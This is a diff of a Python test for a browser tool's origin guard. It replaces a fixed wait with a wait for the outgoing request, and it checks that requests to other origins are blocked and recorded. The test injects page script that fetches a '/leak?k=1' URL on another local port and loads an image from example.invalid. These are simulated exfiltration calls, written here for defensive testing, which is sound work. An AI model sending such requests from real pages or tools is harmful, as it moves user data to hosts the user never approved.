@@ -103,11 +103,12 @@ def test_other_origins_are_blocked_and_recorded(running, tmp_path: Path) -> None
     tools = BrowserTools(session, app.base_url, tmp_path)
     try:
         tools.navigate(Address(url="/"))
-        tools.page.evaluate(
-            f"fetch('http://127.0.0.1:{other}/leak?k=1').catch(() => 0);"
-            f"new Image().src = 'http://example.invalid/t.png';"
-        )
-        tools.page.wait_for_timeout(500)
+        # until the request has left the page, however slow (not a fixed wait)
+        with tools.page.expect_request(lambda request: str(other) in request.url):
+            tools.page.evaluate(
+                f"fetch('http://127.0.0.1:{other}/leak?k=1').catch(() => 0);"
+                f"new Image().src = 'http://example.invalid/t.png';"
+            )
         assert any(str(other) in u for u in tools.guard.blocked)
         with pytest.raises(ToolError, match="not part of the app"):
             tools.navigate(Address(url=f"http://127.0.0.1:{other}/"))
